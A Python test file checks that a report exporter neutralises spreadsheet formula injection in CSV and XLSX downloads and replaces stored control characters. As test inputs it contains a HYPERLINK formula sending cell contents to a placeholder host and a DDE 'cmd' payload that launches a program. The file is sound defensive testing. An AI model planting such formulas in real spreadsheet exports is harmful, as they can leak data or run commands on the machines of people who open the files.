"""Download cells are safe to open: no text runs as a formula, no stored control character
breaks a file. Each test reads the file back as a spreadsheet program would."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from projections.reports.render import Format, render
from projections.reports.results import Table
from projections.reports.tables import safe_text

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"ดูประวัติ")'


@dataclass(frozen=True)
class Person:
    name: str
    count: int

    def as_json(self) -> dict[str, Any]:
        return {"name": self.name, "count": self.count}


def _csv_cells(table: Table[Person]) -> list[list[str]]:
    text = render(table, Format.CSV).content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def test_a_formula_name_is_text_in_csv() -> None:
    """A name written as a formula is written with a leading apostrophe in a CSV download."""
    cells = _csv_cells(Table("people", (Person(FORMULA, 1),)))

    assert ["'" + FORMULA, "1"] == cells[1]


def test_a_formula_name_is_a_string_cell_in_xlsx() -> None:
    """In XLSX the same name is a string cell holding the escaped text, never a formula."""
    sheet = _sheet(render(Table("people", (Person(FORMULA, 1),)), Format.XLSX).content)

    assert ("'" + FORMULA, "s") == (sheet["A2"].value, sheet["A2"].data_type)


@pytest.mark.parametrize("text", ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_escaped(text: str) -> None:
    """Text beginning with + - @, a tab or a carriage return gets the apostrophe too."""
    assert "'" + text == safe_text(text)


@pytest.mark.parametrize("text", ["-", "-5", "+1,234.50", "สมชาย", "6480101"])
def test_numbers_dashes_and_names_stay_as_they_are(text: str) -> None:
    """A signed number or the table's dash computes nothing else and stays unchanged."""
    assert text == safe_text(text)


def test_a_stored_control_character_does_not_break_the_xlsx() -> None:
    """Old data holding U+0001 still downloads; the cell shows a replacement character."""
    content = render(Table("people", (Person("สม\x01ชาย", 1),)), Format.XLSX).content

    assert "สม\ufffdชาย" == _sheet(content)["A2"].value


def test_a_stored_control_character_is_replaced_in_csv() -> None:
    """The CSV download shows the same replacement character as the XLSX one."""
    cells = _csv_cells(Table("people", (Person("สม\x01ชาย", 1),)))

    assert "สม\ufffdชาย" == cells[1][0]
